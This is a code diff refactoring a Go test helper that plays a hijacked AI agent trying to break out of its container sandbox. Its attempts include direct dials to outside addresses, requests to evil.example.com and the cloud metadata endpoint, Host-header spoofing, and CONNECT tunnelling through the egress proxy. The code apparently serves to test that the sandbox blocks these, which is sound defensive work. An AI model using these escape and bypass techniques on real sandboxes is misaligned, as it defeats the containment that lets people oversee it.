@@ -1,7 +1,4 @@
-// Command hostile is a hijacked agent: the container tests run it in a sandbox,
-// where it tries to get out and to get more from the gateway than it is for. It
-// prints a line for each attempt: what it is called, a tab, and what came of it.
-package main
+package sandboxtest
 
 import (
 	"bufio"
@@ -19,21 +16,22 @@ import (
 	"time"
 )
 
-// patience is for attempts that nobody answers.
-const patience = 3 * time.Second
+// attemptTime is for attempts that nobody answers.
+const attemptTime = 3 * time.Second
 
-func main() {
-	if len(os.Args) < 2 {
-		os.Exit(2)
-	}
-	switch os.Args[1] {
-	case "network":
+// hijacked is a hijacked agent: it tries to get out of its sandbox, and to get more from the
+// gateway than it is for. It prints a line for each attempt: what it is called, a tab, and
+// what came of it.
+func hijacked(args []string) int {
+	switch {
+	case len(args) == 1 && args[0] == "network":
 		network()
-	case "fetch":
-		fetch(os.Args[2:])
+	case len(args) > 1 && args[0] == "fetch":
+		fetch(args[1:])
 	default:
-		os.Exit(2)
+		return fail(fmt.Errorf("unknown attack %q", args))
 	}
+	return 0
 }
 
 func tell(name, format string, args ...any) {
@@ -43,7 +41,7 @@ func tell(name, format string, args ...any) {
 
 // try tells what came of an attempt.
 func try(name string, attempt func(ctx context.Context) (string, error)) {
-	ctx, cancel := context.WithTimeout(context.Background(), patience)
+	ctx, cancel := context.WithTimeout(context.Background(), attemptTime)
 	defer cancel()
 	got, err := attempt(ctx)
 	if err != nil {
@@ -62,7 +60,7 @@ func client() *http.Client {
 	}}
 }
 
-func get(target string) func(ctx context.Context) (string, error) {
+func fetchOne(target string) func(ctx context.Context) (string, error) {
 	return func(ctx context.Context) (string, error) {
 		req, err := http.NewRequestWithContext(ctx, http.MethodGet, target, nil) // #nosec G704 -- it goes where it wants
 		if err != nil {
@@ -148,8 +146,8 @@ func ask(text string) func(ctx context.Context) (string, error) {
 // network tries to get out. registry is the host that it may reach.
 func network() {
 	registry, host := os.Getenv("REGISTRY"), os.Getenv("HOST_PORT")
-	try("allowed", get("https://"+registry+"/package"))
-	try("allowed, plain", get("http://"+registry+"/package"))
+	try("allowed", fetchOne("https://"+registry+"/package"))
+	try("allowed, plain", fetchOne("http://"+registry+"/package"))
 
 	// Past the proxy.
 	try("address", dial("tcp4", "93.184.216.34:443"))
@@ -172,16 +170,16 @@ func network() {
 	})
 
 	// Through the proxy.
-	try("proxy: host", get("https://evil.example.com/"))
-	try("proxy: address", get("https://93.184.216.34/"))
-	try("proxy: address of IPv6", get("https://[2606:2800:220:1:248:1893:25c8:1946]/"))
-	try("proxy: metadata", get("http://169.254.169.254/latest/meta-data/"))
-	try("proxy: port", get("https://"+registry+":8443/"))
-	try("proxy: redirect", get("https://"+registry+"/redirect"))
+	try("proxy: host", fetchOne("https://evil.example.com/"))
+	try("proxy: address", fetchOne("https://93.184.216.34/"))
+	try("proxy: address of IPv6", fetchOne("https://[2606:2800:220:1:248:1893:25c8:1946]/"))
+	try("proxy: metadata", fetchOne("http://169.254.169.254/latest/meta-data/"))
+	try("proxy: port", fetchOne("https://"+registry+":8443/"))
+	try("proxy: redirect", fetchOne("https://"+registry+"/redirect"))
 	try("proxy: Host of the allowed", ask("GET http://evil.example.com/ HTTP/1.1\nHost: "+registry+
 		"\n$AUTH\nConnection: close\n\n"))
 	try("proxy: no token", ask("GET http://"+registry+"/ HTTP/1.1\nHost: "+registry+"\nConnection: close\n\n"))
-	try("proxy: name resolves inside", get("https://inside.example.com/"))
+	try("proxy: name resolves inside", fetchOne("https://inside.example.com/"))
 	try("proxy: TLS for another", func(ctx context.Context) (string, error) {
 		conn, resp, err := raw(ctx, "CONNECT "+registry+":443 HTTP/1.1\nHost: "+registry+":443\n$AUTH\n\n")
 		if err != nil {
@@ -217,7 +215,7 @@ func network() {
 func fetch(targets []string) {
 	for _, target := range targets {
 		tell("asking", "%s", target)
-		got, err := get(target)(context.Background())
+		got, err := fetchOne(target)(context.Background())
 		tell("got", "%s %v", got, err)
 	}
 }
